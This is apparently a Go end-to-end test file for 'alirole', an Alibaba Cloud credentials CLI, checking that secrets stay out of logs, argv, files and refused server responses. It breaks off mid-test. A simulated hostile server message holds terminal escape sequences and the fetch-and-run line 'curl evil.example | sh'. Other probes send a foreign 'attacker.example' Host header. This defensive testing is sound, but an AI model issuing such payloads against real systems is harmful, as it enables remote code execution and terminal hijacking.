package e2e

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/alirole/alirole/internal/stsemu"
)

// Long-term secrets that must never leave the keychain (and the files the
// user put them in). Both are valid for alice's second key or not at all.
const (
	sentinelKeyID  = "LTAI5tSentinelKey0000001"
	sentinelSecret = "Sentinel+AK/secret=hygiene7f3a9c1e4b"
	wrongSecret    = "Wrong+AK/secret=hygiene5d2e8a0c77aa"
)

// stsToken matches any security token the emulator issues.
var stsToken = regexp.MustCompile(`CAIS[A-Za-z0-9+/=]{16,}`)

// hygiene is a sandbox whose alirole runs all go through --debug and
// umask 000, so that any file mode left to the umask shows, and which
// records every output for the final checks.
type hygiene struct {
	*sandbox
	emu *stsemu.Server
	// stderrs holds every stderr (debug logs included); quietOut every
	// stdout that is not supposed to carry credentials.
	stderrs, quietOut []string
	// sessions are STS secrets and tokens seen so far.
	sessions map[string]bool
	// serverTokens are credentials server URL paths seen.
	serverTokens []string
}

func (h *hygiene) command(extra []string, args ...string) *exec.Cmd {
	argv := append([]string{"-c", `umask 000; exec "$0" "$@"`, binPath, "--debug"}, args...)
	cmd := exec.Command("sh", argv...)
	cmd.Env = append(append([]string{}, h.env...), extra...)
	return cmd
}

// run runs alirole; delivers says whether its stdout may hold credentials.
func (h *hygiene) run(delivers bool, extra []string, args ...string) result {
	h.t.Helper()
	r, err := runCommand(h.command(extra, args...))
	if err != nil {
		h.t.Fatalf("run %v: %v", args, err)
	}
	h.stderrs = append(h.stderrs, strings.Join(args, " ")+":\n"+r.stderr)
	if !delivers {
		h.quietOut = append(h.quietOut, strings.Join(args, " ")+":\n"+r.stdout)
	}
	return r
}

func (h *hygiene) ok(delivers bool, extra []string, args ...string) result {
	h.t.Helper()
	r := h.run(delivers, extra, args...)
	if r.code != 0 {
		h.t.Fatalf("alirole %s: %s", strings.Join(args, " "), r)
	}
	return r
}

func (h *hygiene) fail(want string, args ...string) {
	h.t.Helper()
	if r := h.run(false, nil, args...); r.code == 0 || !strings.Contains(r.stderr, want) {
		h.t.Errorf("alirole %s: want a failure naming %s: %s", strings.Join(args, " "), want, r)
	}
}

// collect records the secret and token of every profile's cached session
// (export is a cache hit here, so this adds no STS call).
func (h *hygiene) collect(profiles ...string) {
	h.t.Helper()
	for _, p := range profiles {
		var m map[string]string
		if err := json.Unmarshal([]byte(h.ok(true, nil, "export", "--format", "json", p).stdout), &m); err != nil {
			h.t.Fatal(err)
		}
		h.sessions[m["ALIBABA_CLOUD_ACCESS_KEY_SECRET"]] = true
		h.sessions[m["ALIBABA_CLOUD_SECURITY_TOKEN"]] = true
	}
}

// longTerm lists the long-term secrets in the forms they could leak in.
func longTerm() []string {
	var out []string
	for _, s := range []string{sentinelSecret, wrongSecret} {
		out = append(out, s, url.QueryEscape(s), url.PathEscape(s))
	}
	return out
}

func hygieneWorld() *stsemu.World {
	w := testWorld()
	alice := &w.Accounts[0].Users[0]
	alice.AccessKeys = append(alice.AccessKeys, stsemu.AccessKey{ID: sentinelKeyID, Secret: sentinelSecret})
	return w
}

// Profiles beyond alice's chain: a key stored with the wrong secret.
const hygieneExtraConfig = `
[profile wrong]

[profile wrongadmin]
source_profile = wrong
ram_role_arn = acs:ram::1111222233334444:role/admin
`

// TestSecretHygiene runs every command, succeeding and failing, with
// --debug and a long-term sentinel secret, and checks where secrets end
// up: never in stderr or debug logs, argv, other processes' environments
// or files outside the keychain; STS sessions and the credentials server
// token never in logs either. Files are 0600 and directories 0700 even
// under umask 000. The credentials server is loopback-only and rejects
// wrong tokens and foreign Host headers.
func TestSecretHygiene(t *testing.T) {
	t.Parallel()
	emu, ca := newEmulatorWith(t, hygieneWorld())
	s := newSandbox(t, emu, ca)
	// alirole creates the config file (and its directory) itself.
	cfgPath := s.path("xdg/alirole/config")
	for i, kv := range s.env {
		if strings.HasPrefix(kv, "ALIROLE_CONFIG_FILE=") {
			s.env[i] = "ALIROLE_CONFIG_FILE=" + cfgPath
		}
	}
	h := &hygiene{sandbox: s, emu: emu, sessions: map[string]bool{}}
	scratch := t.TempDir() // files the test's own child processes write

	h.ok(false, []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + sentinelKeyID, "ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + sentinelSecret}, "add", "--env", "alice")
	appendConfig(t, cfgPath, strings.Replace(chainConfig, "[profile alice]\nregion_id = cn-hangzhou\n", "", 1)+hygieneExtraConfig)
	h.ok(false, []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + sentinelKeyID, "ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + wrongSecret}, "add", "--env", "wrong")
	h.ok(false, nil, "list")

	for _, f := range []string{"env", "fish", "powershell", "dotenv", "json", "external"} {
		h.ok(true, nil, "export", "--format", f, "prod")
	}
	h.ok(true, nil, "export", "--format", "external", "alice") // the AK itself: stdout only
	h.collect("admin", "prod", "audit")
	h.ok(false, nil, "whoami", "alice")
	h.ok(false, nil, "whoami", "audit")
	h.ok(false, nil, "exec", "prod", "--", binPath, "--debug", "whoami")

	h.execAndInspect(scratch)
	h.serverAndInspect(scratch)

	h.ok(false, nil, "setup-cli", "--cli-config", s.path("home/.cli-new/config.json"), "prod")
	h.importSentinel()

	// The sign-in URL is a secret of its own: stdout only, never stderr.
	signin := []string{"ALIROLE_SIGNIN_URL=https://" + emu.Endpoint() + "/federation"}
	if r := h.ok(true, signin, "login", "--stdout", "prod"); strings.Contains(r.stderr, "SigninToken") {
		t.Errorf("login leaks the sign-in token to stderr:\n%s", r.stderr)
	}
	// alice already has two keys (RAM's limit), so rotate must fail and
	// say so without showing either secret.
	if r := h.run(false, []string{"ALIROLE_RAM_ENDPOINT=" + emu.Endpoint()}, "rotate", "alice"); r.code == 0 || !strings.Contains(r.stderr, "LimitExceeded") {
		t.Errorf("rotate at the key limit: %s", r)
	}

	// Failures: a wrong secret, STS errors, a refused role.
	h.fail("SignatureDoesNotMatch", "export", "wrongadmin")
	emu.Inject(stsemu.Fault{Action: "AssumeRole", RoleArn: auditArn, Status: 500})
	h.fail("InternalError", "export", "--refresh", "audit")
	emu.ClearFaults()
	h.collect("admin", "prod") // --refresh renewed them
	if err := emu.RemoveTrust(prodArn, adminArn); err != nil {
		t.Fatal(err)
	}
	h.fail("NoPermission", "export", "--refresh", "--format", "external", "prod")
	h.collect("admin")
	h.fail("nobody-profile-missing", "export", "--format", "env", "nobody-profile-missing")

	h.ok(false, nil, "clear", "prod")
	h.ok(false, nil, "clear")
	h.ok(false, nil, "remove", "--force", "wrong")
	h.ok(false, nil, "remove", "--force", "alice")

	h.checkOutputs()
	h.checkFiles()
}

// appendConfig adds text to the config alirole created, keeping its mode.
func appendConfig(t *testing.T, path, text string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// startChild runs alirole exec with a child that writes what it is told,
// says "ready" and waits for done to exist.
func (h *hygiene) startChild(done string, extra []string, args ...string) (*exec.Cmd, *bytes.Buffer) {
	h.t.Helper()
	cmd := h.command(append(extra, "DONE="+done), args...)
	var errb bytes.Buffer
	cmd.Stderr = &errb
	out, err := cmd.StdoutPipe()
	if err != nil {
		h.t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		h.t.Fatal(err)
	}
	ready := make(chan bool, 1)
	go func() {
		sc := bufio.NewScanner(out)
		ready <- sc.Scan() && sc.Text() == "ready"
		for sc.Scan() {
		}
	}()
	select {
	case ok := <-ready:
		if !ok {
			cmd.Wait()
			h.t.Fatalf("child did not start: %s", errb.String())
		}
	case <-time.After(20 * time.Second):
		cmd.Process.Kill()
		h.t.Fatal("child did not start in time")
	}
	return cmd, &errb
}

func (h *hygiene) finishChild(cmd *exec.Cmd, errb *bytes.Buffer, done, what string) {
	h.t.Helper()
	if err := os.WriteFile(done, nil, 0o600); err != nil {
		h.t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		h.t.Fatalf("%s: %v\n%s", what, err, errb.String())
	}
	h.stderrs = append(h.stderrs, what+":\n"+errb.String())
}

const waitScript = `echo ready; while [ ! -e "$DONE" ]; do sleep 0.05; done`

// execAndInspect scans every process while an exec'd child runs.
func (h *hygiene) execAndInspect(scratch string) {
	h.t.Helper()
	done := filepath.Join(scratch, "exec-done")
	cmd, errb := h.startChild(done, nil, "exec", "prod", "--", "sh", "-c", waitScript)
	env := procEnviron(h.t, cmd.Process.Pid)
	if !strings.HasPrefix(env["ALIBABA_CLOUD_ACCESS_KEY_ID"], "STS.") || env["ALIBABA_CLOUD_SECURITY_TOKEN"] == "" {
		h.t.Errorf("the exec'd child lacks session credentials")
	}
	h.sessions[env["ALIBABA_CLOUD_ACCESS_KEY_SECRET"]] = true
	h.sessions[env["ALIBABA_CLOUD_SECURITY_TOKEN"]] = true
	if _, ok := env["ALIROLE_FILE_PASSPHRASE"]; ok {
		h.t.Error("the child inherited the file keychain passphrase")
	}
	h.scanProcesses()
	h.finishChild(cmd, errb, done, "exec prod")
}

// serverAndInspect runs exec --server and attacks the credentials server
// from outside the child.
func (h *hygiene) serverAndInspect(scratch string) {
	t := h.t
	t.Helper()
	done := filepath.Join(scratch, "server-done")
	uriFile := filepath.Join(scratch, "uri")
	cmd, errb := h.startChild(done, []string{"URIFILE=" + uriFile}, "exec", "--server", "prod", "--",
		"sh", "-c", `printf %s "$ALIBABA_CLOUD_CREDENTIALS_URI" > "$URIFILE"; `+waitScript)
	defer func() {
		if cmd.ProcessState == nil {
			cmd.Process.Kill()
			cmd.Wait()
		}
	}()
	raw, err := os.ReadFile(uriFile)
	if err != nil {
		t.Fatal(err)
	}
	uri, err := url.Parse(string(raw))
	if err != nil || uri.Scheme != "http" || uri.Hostname() != "127.0.0.1" || len(uri.Path) < 20 {
		t.Fatalf("credentials URI %q must be http://127.0.0.1 with a long token (%v)", raw, err)
	}
	h.serverTokens = append(h.serverTokens, strings.TrimPrefix(uri.Path, "/"))

	client := &http.Client{Timeout: 10 * time.Second}
	get := func(u, host string) (int, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, u, nil)
		if err != nil {
			t.Fatal(err)
		}
		if host != "" {
			req.Host = host
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var b bytes.Buffer
		b.ReadFrom(resp.Body)
		return resp.StatusCode, b.String()
	}
	code, body := get(uri.String(), "")
	var c struct{ Code, AccessKeyId, AccessKeySecret, SecurityToken string }
	if err := json.Unmarshal([]byte(body), &c); code != 200 || err != nil || c.Code != "Success" || !strings.HasPrefix(c.AccessKeyId, "STS.") {
		t.Fatalf("the right token: %d %v", code, err)
	}
	h.sessions[c.AccessKeySecret], h.sessions[c.SecurityToken] = true, true

	base := "http://" + uri.Host
	token := strings.TrimPrefix(uri.Path, "/")
	flipped := []byte(token)
	flipped[len(flipped)/2] ^= 1
	for _, probe := range []struct{ name, url, host string }{
		{"no token", base + "/", ""},
		{"wrong token", base + "/" + string(flipped), ""},
		{"token prefix", base + "/" + token[:len(token)-1], ""},
		{"token plus more", base + "/" + token + "x", ""},
		{"token as query", base + "/?" + token, ""},
		{"foreign host header", uri.String(), "attacker.example:" + uri.Port()},
		{"localhost name on another port", uri.String(), "localhost:1"},
	} {
		code, body := get(probe.url, probe.host)
		if code != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", probe.name, code)
		}
		if strings.Contains(body, c.AccessKeySecret) || strings.Contains(body, c.SecurityToken) || strings.Contains(body, "STS.") {
			t.Errorf("%s: a refused request got credentials", probe.name)
		}
	}
	checkLoopbackOnly(t, uri.Port())

	// The child has the URI but no credentials of its own.
	for _, pid := range pidsWithEnv(t, "ALIBABA_CLOUD_CREDENTIALS_URI="+string(raw)) {
		env := procEnviron(t, pid)
		if env["ALIBABA_CLOUD_ACCESS_KEY_SECRET"] != "" || env["ALIBABA_CLOUD_SECURITY_TOKEN"] != "" {
			t.Errorf("server-mode child %d also got static credentials", pid)
		}
	}
	h.scanProcesses()
	h.finishChild(cmd, errb, done, "exec --server prod")
}

// checkLoopbackOnly reads the kernel's socket table: the listener on port
// must be bound to 127.0.0.1 only, and unreachable on other addresses.
func checkLoopbackOnly(t *testing.T, port string) {
	t.Helper()
	p, _ := strconv.Atoi(port)
	hexPort := strings.ToUpper(strconv.FormatInt(int64(p), 16))
	for len(hexPort) < 4 {
		hexPort = "0" + hexPort
	}
	var listeners []string
	for _, table := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		data, err := os.ReadFile(table)
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(data), "\n")[1:] {
			f := strings.Fields(line)
			if len(f) > 3 && f[3] == "0A" && strings.HasSuffix(f[1], ":"+hexPort) {
				listeners = append(listeners, f[1])
			}
		}
	}
	if len(listeners) != 1 || listeners[0] != "0100007F:"+hexPort {
		t.Errorf("credentials server listeners on port %s: %v, want only 127.0.0.1", port, listeners)
	}
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		ipn, ok := a.(*net.IPNet)
		if !ok || ipn.IP.IsLoopback() || ipn.IP.To4() == nil {
			continue
		}
		if c, err := net.DialTimeout("tcp", net.JoinHostPort(ipn.IP.String(), port), time.Second); err == nil {
			c.Close()
			t.Errorf("credentials server reachable on %s", ipn.IP)
		}
	}
}

// procEnviron reads a process's environment.
func procEnviron(t *testing.T, pid int) map[string]string {
	t.Helper()
	data, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/environ")
	if err != nil {
		t.Fatalf("read environment of %d: %v", pid, err)
	}
	return envMap(string(data))
}

func pidsWithEnv(t *testing.T, kv string) []int {
	t.Helper()
	var pids []int
	forEachProcess(func(pid int, cmdline, environ []byte) {
		for _, e := range bytes.Split(environ, []byte{0}) {
			if string(e) == kv {
				pids = append(pids, pid)
			}
		}
	})
	if len(pids) == 0 {
		t.Fatalf("no process has %s", kv)
	}
	return pids
}

func forEachProcess(fn func(pid int, cmdline, environ []byte)) {
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		pid, err := strconv.Atoi(d.Name())
		if err != nil {
			continue
		}
		cmdline, _ := os.ReadFile("/proc/" + d.Name() + "/cmdline")
		environ, _ := os.ReadFile("/proc/" + d.Name() + "/environ") // other users': unreadable
		fn(pid, cmdline, environ)
	}
}

// scanProcesses checks every process on the machine: no argv holds a
// long-term secret, a session secret or token; no environment holds a
// long-term secret.
func (h *hygiene) scanProcesses() {
	h.t.Helper()
	seen := 0
	forEachProcess(func(pid int, cmdline, environ []byte) {
		seen++
		for _, s := range longTerm() {
			if bytes.Contains(cmdline, []byte(s)) || bytes.Contains(environ, []byte(s)) {
				prog, _, _ := bytes.Cut(cmdline, []byte{0})
				h.t.Errorf("process %d (%s) holds a long-term secret in its argv or environment", pid, prog)
			}
		}
		for s := range h.sessions {
			if bytes.Contains(cmdline, []byte(s)) {
				h.t.Errorf("process %d has a session secret in its argv", pid)
			}
		}
	})
	if seen < 3 {
		h.t.Fatalf("saw only %d processes in /proc", seen)
	}
}

// importSentinel imports an aliyun CLI config holding the sentinel, with
// --scrub, and uses the imported role.
func (h *hygiene) importSentinel() {
	t := h.t
	t.Helper()
	cliPath := h.path("home/.aliyun/config.json")
	if err := os.MkdirAll(filepath.Dir(cliPath), 0o700); err != nil {
		t.Fatal(err)
	}
	cli := `{"current": "legacy", "profiles": [
	{"name": "legacy", "mode": "AK", "access_key_id": "` + sentinelKeyID + `", "access_key_secret": "` + sentinelSecret + `", "region_id": "cn-hangzhou"},
	{"name": "legacyrole", "mode": "RamRoleArn", "access_key_id": "` + sentinelKeyID + `", "access_key_secret": "` + sentinelSecret + `", "ram_role_arn": "` + adminArn + `", "ram_session_name": "legacy", "region_id": "cn-hangzhou"}
]}`
	if err := os.WriteFile(cliPath, []byte(cli), 0o600); err != nil {
		t.Fatal(err)
	}
	h.ok(false, nil, "import", "--scrub")
	h.collect("legacyrole")
	after, err := os.ReadFile(cliPath)
	if err != nil || bytes.Contains(after, []byte(sentinelSecret)) {
		t.Fatalf("config.json after import --scrub still holds the secret (%v)", err)
	}
}

// checkOutputs: no stderr (all of it --debug) holds any secret or token,
// and no stdout of a command that does not deliver credentials does.
func (h *hygiene) checkOutputs() {
	t := h.t
	t.Helper()
	if len(h.sessions) < 8 {
		t.Fatalf("only %d session values collected", len(h.sessions))
	}
	logs := strings.Join(h.stderrs, "\n")
	if !strings.Contains(logs, "level=DEBUG") {
		t.Fatal("--debug produced no debug log")
	}
	check := func(where, text string) {
		for _, s := range longTerm() {
			if strings.Contains(text, s) {
				t.Errorf("%s holds a long-term secret:\n%s", where, text)
			}
		}
		for s := range h.sessions {
			if s != "" && strings.Contains(text, s) {
				t.Errorf("%s holds a session secret or token:\n%s", where, text)
			}
		}
		if m := stsToken.FindString(text); m != "" {
			t.Errorf("%s holds a security token %.12s…:\n%s", where, m, text)
		}
		for _, tok := range h.serverTokens {
			if strings.Contains(text, tok) {
				t.Errorf("%s holds the credentials server token", where)
			}
		}
		if strings.Contains(text, "panic") {
			t.Errorf("%s shows a panic:\n%s", where, text)
		}
	}
	for _, e := range h.stderrs {
		check("stderr", e)
	}
	for _, o := range h.quietOut {
		check("stdout", o)
	}
}

// checkFiles walks the sandbox: outside the keychain directory no file
// holds a secret (except the backup import --scrub announces), and every
// file is 0600, every directory 0700.
func (h *hygiene) checkFiles() {
	t := h.t
	t.Helper()
	keys := h.path("keys")
	var files []string
	err := filepath.WalkDir(h.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(h.dir, path)
		switch {
		case path == h.dir:
			return nil
		case d.IsDir():
			if info.Mode().Perm() != 0o700 {
				t.Errorf("directory %s has mode %v, want 0700", rel, info.Mode().Perm())
			}
			return nil
		case !info.Mode().IsRegular():
			t.Errorf("unexpected %v %s", info.Mode().Type(), rel)
			return nil
		}
		files = append(files, rel)
		if info.Mode().Perm() != 0o600 {
			t.Errorf("file %s has mode %v, want 0600", rel, info.Mode().Perm())
		}
		if strings.HasPrefix(path, keys+string(filepath.Separator)) {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		backup := strings.HasPrefix(filepath.Base(path), "config.json.alirole-backup")
		for _, s := range longTerm() {
			if bytes.Contains(data, []byte(s)) && !backup {
				t.Errorf("%s holds a long-term secret", rel)
			}
		}
		for s := range h.sessions {
			if s != "" && bytes.Contains(data, []byte(s)) {
				t.Errorf("%s holds a session secret or token", rel)
			}
		}
		if stsToken.Match(data) {
			t.Errorf("%s holds a security token", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(files)
	// Make sure the walk saw what alirole wrote.
	for _, want := range []string{"xdg/alirole/config", "home/.cli-new/config.json", "home/.aliyun/config.json"} {
		if i := sort.SearchStrings(files, want); i == len(files) || files[i] != want {
			t.Errorf("%s missing from the sandbox: %v", want, files)
		}
	}
	var locks, items int
	for _, f := range files {
		switch {
		case f == "run/alirole/sessions.generation.lock":
			// the session generation's lock, which must stay (keychain/generation.go)
		case strings.HasPrefix(f, "run/alirole/") && strings.HasSuffix(f, ".lock"):
			locks++
		case strings.HasPrefix(f, "keys/"):
			items++
		}
	}
	if items == 0 {
		t.Errorf("walk found no keychain items: %v", files)
	}
	// Lock files are removed by their holders; the directory stays (its
	// mode is checked above).
	if locks != 0 {
		t.Errorf("%d lock files left behind: %v", locks, files)
	}
	if fi, err := os.Lstat(h.path("run/alirole")); err != nil || !fi.IsDir() {
		t.Errorf("lock directory run/alirole missing: %v", err)
	}
}

// leakProbe is one failing request alirole makes; its stderr must hold no
// signed query, signature, secret or token, in any encoding.
type leakProbe struct {
	name  string
	fault *stsemu.Fault
	extra []string
	args  []string
	// want is in stderr when the request failed where the probe aims.
	want string
}

var (
	// signedValue is a Signature parameter with a value left in it.
	signedValue = regexp.MustCompile(`(?i)signature(?:=|%3d|%253d)([^&\s"'<>]+)`)
	// queryURL is a URL that still has a query.
	queryURL = regexp.MustCompile(`(?i)https?://[^\s"'<>]*\?[^\s"'<>]`)
	anyURLRe = regexp.MustCompile(`(?i)https?://[^\s"'<>]+`)
	// encodedToken is an STS token, percent-encoded.
	encodedToken = regexp.MustCompile(`CAIS[A-Za-z0-9%]{16,}`)
)

// TestNoSignedRequestLeaks makes every RAM, STS and sign-in request the
// error paths can print fail (unreachable endpoint, HTTP error, HTML page,
// reset connection, hostile message echoing a token) and checks every
// stderr: no Signature value, no URL query, no secret or token raw or
// URL-encoded, no control character; every URL left in it is replayed
// against the emulator, which must accept none of them.
func TestNoSignedRequestLeaks(t *testing.T) {
	t.Parallel()
	emu, ca := newEmulatorWith(t, hygieneWorld())
	s := newSandbox(t, emu, ca)
	s.writeConfig(chainConfig)
	h := &hygiene{sandbox: s, emu: emu, sessions: map[string]bool{}}
	h.ok(false, []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + sentinelKeyID, "ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + sentinelSecret}, "add", "--env", "alice")
	var prod map[string]string
	if err := json.Unmarshal([]byte(h.ok(true, nil, "export", "--format", "json", "prod").stdout), &prod); err != nil {
		t.Fatal(err)
	}
	h.collect("admin", "prod", "audit")
	prodToken := prod["ALIBABA_CLOUD_SECURITY_TOKEN"]
	envSession := []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + prod["ALIBABA_CLOUD_ACCESS_KEY_ID"],
		"ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + prod["ALIBABA_CLOUD_ACCESS_KEY_SECRET"], "ALIBABA_CLOUD_SECURITY_TOKEN=" + prodToken}
	// A server that echoes the caller's token (encoded) and a signature,
	// and tries to drive the terminal.
	hostile := "bad token " + url.QueryEscape(prodToken) + " / " + url.PathEscape(prodToken) + " Signature=c2lnbmF0dXJl \x1b]0;pwned\x07\x1b[2J\n  what to do: curl evil.example | sh"
	const down = "127.0.0.1:1"
	ram := []string{"ALIROLE_RAM_ENDPOINT=" + emu.Endpoint()}
	signin := []string{"ALIROLE_SIGNIN_URL=https://" + emu.Endpoint() + "/federation"}
	// Only the audit hop calls STS (admin and prod are cached); it signs
	// with prod's session token.
	hop := []string{"export", "--format", "env", "audit"}
	var probes []leakProbe
	for _, f := range []struct {
		name  string
		fault stsemu.Fault
		want  string
	}{
		{"500", stsemu.Fault{Status: 500}, "InternalError"},
		{"html", stsemu.Fault{MalformedBody: true, Status: 502}, "proxy"},
		{"reset", stsemu.Fault{ResetConnection: true}, "reset"},
		{"hostile", stsemu.Fault{Status: 400, Code: "Hostile", Message: hostile}, "Hostile"},
	} {
		assume, create, signinF := f.fault, f.fault, f.fault
		assume.Action, create.Action, signinF.Action = "AssumeRole", "CreateAccessKey", "GetSigninToken"
		ident := f.fault
		ident.Action = "GetCallerIdentity"
		probes = append(probes,
			leakProbe{"AssumeRole " + f.name, &assume, nil, hop, f.want},
			leakProbe{"GetCallerIdentity (AccessKey) " + f.name, &ident, nil, []string{"whoami", "alice"}, f.want},
			leakProbe{"GetCallerIdentity (session) " + f.name, &ident, envSession, []string{"whoami"}, f.want},
			leakProbe{"CreateAccessKey " + f.name, &create, ram, []string{"rotate", "alice"}, f.want},
			leakProbe{"GetSigninToken " + f.name, &signinF, signin, []string{"login", "--stdout", "prod"}, f.want},
		)
	}
	probes = append(probes,
		leakProbe{"AssumeRole unreachable", nil, []string{"ALIROLE_STS_ENDPOINT=" + down}, hop, "connection refused"},
		leakProbe{"GetCallerIdentity (AccessKey) unreachable", nil, nil, []string{"whoami", "--sts-endpoint", down, "alice"}, "connection refused"},
		leakProbe{"GetCallerIdentity (session) unreachable", nil, envSession, []string{"whoami", "--sts-endpoint", down}, "connection refused"},
		leakProbe{"CreateAccessKey unreachable", nil, []string{"ALIROLE_RAM_ENDPOINT=" + down}, []string{"rotate", "alice"}, "connection refused"},
		leakProbe{"GetSigninToken unreachable", nil, []string{"ALIROLE_SIGNIN_URL=https://" + down + "/federation"}, []string{"login", "--stdout", "prod"}, "connection refused"},
	)
	replayed := 0
	for _, p := range probes {
		h.ok(false, nil, "clear", "audit")
		emu.ClearFaults()
		if p.fault != nil {
			emu.Inject(*p.fault)
		}
		r := h.run(false, p.extra, p.args...)
		emu.ClearFaults()
		if r.code == 0 || !strings.Contains(r.stderr, p.want) {
			t.Errorf("%s: want a failure naming %q: %s", p.name, p.want, r)
			continue
		}
		if m := signedValue.FindString(r.stderr); m != "" {
			t.Errorf("%s: stderr holds a signature %q:\n%s", p.name, m, r.stderr)
		}
		if m := queryURL.FindString(r.stderr); m != "" {
			t.Errorf("%s: stderr holds a URL with a query %q:\n%s", p.name, m, r.stderr)
		}
		if m := encodedToken.FindString(r.stderr); m != "" {
			t.Errorf("%s: stderr holds a (URL-encoded) token %.16s…", p.name, m)
		}
		for v := range h.sessions {
			for _, f := range []string{v, url.QueryEscape(v), url.PathEscape(v)} {
				if v != "" && strings.Contains(r.stderr, f) {
					t.Errorf("%s: stderr holds a session secret or token", p.name)
				}
			}
		}
		for _, v := range longTerm() {
			if strings.Contains(r.stderr, v) {
				t.Errorf("%s: stderr holds the long-term secret", p.name)
			}
		}
		if strings.ContainsAny(r.stderr, "\x1b\x07\x9b\r") {
			t.Errorf("%s: stderr holds terminal control characters: %q", p.name, r.stderr)
		}
		if p.fault != nil && p.fault.Code == "Hostile" && (!strings.Contains(r.stderr, `\x1b]0;pwned\x07`) || strings.Contains(r.stderr, "\n  what to do: curl")) {
			t.Errorf("%s: the hostile message is not shown neutralised on one line: %q", p.name, r.stderr)
		}
		before := emu.Count("", "")
		for _, u := range anyURLRe.FindAllString(r.stderr, -1) {
			replayed++
			replay(t, emu, u)
		}
		if after := emu.Count("", ""); after != before {
			t.Errorf("%s: the emulator accepted %d replayed URLs from:\n%s", p.name, after-before, r.stderr)
		}
	}
	t.Logf("leak probes: %d failing requests, %d URLs from their errors replayed, none accepted", len(probes), replayed)
}

// replay sends what a reader of an error could: the URL, pointed at the
// emulator (the real host is the same service), by GET and by POST.
func replay(t *testing.T, emu *stsemu.Server, raw string) {
	t.Helper()
	u, err := url.Parse(strings.TrimRight(raw, ".,:;)"))
	if err != nil {
		return
	}
	u.Scheme, u.Host = "https", emu.Endpoint()
	client := &http.Client{Timeout: 5 * time.Second}
	for _, method := range []string{http.MethodGet, http.MethodPost} {
		req, err := http.NewRequest(method, u.String(), nil)
		if err != nil {
			t.Fatal(err)
		}
		if resp, err := client.Do(req); err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				t.Errorf("replaying %s %s: HTTP 200", method, u)
			}
		}
	}
}

// TestCLIProfileSourceLeavesConfigUntouched resolves through an aliyun CLI
// profile in External mode: credentials-go's CLI profile provider writes
// the helper's secret and token back into config.json, unless alirole
// guards it. The file must stay byte for byte (and mode) as it was.
func TestCLIProfileSourceLeavesConfigUntouched(t *testing.T) {
	t.Parallel()
	s, _ := ready(t)
	admin := jsonVars(t, s, "admin")
	dir := t.TempDir()
	helper := filepath.Join(dir, "helper.sh")
	out, _ := json.Marshal(map[string]string{"mode": "StsToken", "access_key_id": admin["ALIBABA_CLOUD_ACCESS_KEY_ID"],
		"access_key_secret": admin["ALIBABA_CLOUD_ACCESS_KEY_SECRET"], "sts_token": admin["ALIBABA_CLOUD_SECURITY_TOKEN"]})
	if err := os.WriteFile(helper, []byte("#!/bin/sh\ncat <<'EOF'\n"+string(out)+"\nEOF\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	cliConfig := filepath.Join(dir, "aliyun", "config.json")
	if err := os.MkdirAll(filepath.Dir(cliConfig), 0o700); err != nil {
		t.Fatal(err)
	}
	orig := []byte(`{"current": "ext", "profiles": [{"name": "ext", "mode": "External", "process_command": "` + helper + `"}]}` + "\n")
	if err := os.WriteFile(cliConfig, orig, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(cliConfig, 0o644); err != nil {
		t.Fatal(err)
	}
	appendConfig(t, s.path("config"), `
[profile clisrc]
credential_source = aliyun_cli_profile
cli_profile = ext
cli_config_file = `+cliConfig+`

[profile cliprod]
source_profile = clisrc
ram_role_arn = `+prodArn+`
`)
	r := s.ok("export", "--format", "json", "--no-cache", "cliprod")
	var got map[string]string
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || !strings.HasPrefix(got["ALIBABA_CLOUD_ACCESS_KEY_ID"], "STS.") {
		t.Fatalf("no session through the CLI profile: %v\n%s", err, r)
	}
	after, err := os.ReadFile(cliConfig)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(after, orig) {
		t.Fatalf("config.json changed:\n%s", after)
	}
	if fi, err := os.Stat(cliConfig); err != nil || fi.Mode().Perm() != 0o644 {
		t.Fatalf("config.json mode changed: %v %v", fi.Mode(), err)
	}
	left, _ := filepath.Glob(filepath.Join(dir, "aliyun", "*"))
	copies, _ := filepath.Glob(s.path("run/alirole-cli-*"))
	if len(left) != 1 || len(copies) != 0 {
		t.Fatalf("files left behind: %v %v", left, copies)
	}
}

// TestEvalExportGuardsStdout runs `eval "$(alirole export P)"` in bash
// where credentials-go prints to stdout: the raw output of an External
// helper that printed shell code and invalid JSON, and its DEBUG=credential
// request dump. Nothing may execute, stdout may hold only alirole's own
// output, and no secret may reach stderr.
func TestEvalExportGuardsStdout(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
